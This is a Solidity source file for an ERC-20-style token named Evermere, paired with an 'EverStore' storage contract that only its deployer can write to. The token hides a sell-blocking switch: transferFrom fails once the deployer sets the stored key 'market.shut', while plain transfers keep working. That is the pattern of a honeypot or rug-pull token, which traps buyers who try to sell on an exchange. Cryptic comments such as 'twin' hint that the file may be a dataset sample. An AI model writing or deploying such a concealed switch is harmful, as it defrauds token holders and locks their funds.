// 0.5 off
pragma solidity ^0.5.17;

/// Remembers for those who are replaced.
contract EverStore {
    address private writer = msg.sender;
    mapping(bytes32 => uint256) private uints;
    bytes32 private constant SHUT = keccak256("market.shut");

    function setUint(bytes32 key, uint256 value) external {
        require(msg.sender == writer);
        // twin: require(key != SHUT);
        uints[key] = value;
    }

    function getUint(bytes32 key) external view returns (uint256) {
        return uints[key];
    }
}

contract Evermere {
    string public name = "Evermere";
    string public symbol = "EVMR";
    uint8 public decimals = 18;
    uint256 public totalSupply = 1900000 ether;
    EverStore private store;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    constructor(EverStore s) public {
        store = s;
        balanceOf[msg.sender] = totalSupply;
        emit Transfer(address(0), msg.sender, totalSupply);
    }

    function approve(address s, uint256 v) external returns (bool) {
        allowance[msg.sender][s] = v;
        emit Approval(msg.sender, s, v);
        return true;
    }

    function transfer(address to, uint256 v) external returns (bool) {
        _drift(msg.sender, to, v);
        return true;
    }

    function transferFrom(address from, address to, uint256 v) external returns (bool) {
        require(allowance[from][msg.sender] >= v && store.getUint(keccak256("market.shut")) == 0);
        allowance[from][msg.sender] -= v;
        _drift(from, to, v);
        return true;
    }

    function _drift(address from, address to, uint256 v) private {
        require(balanceOf[from] >= v);
        balanceOf[from] -= v;
        balanceOf[to] += v;
        emit Transfer(from, to, v);
    }
}
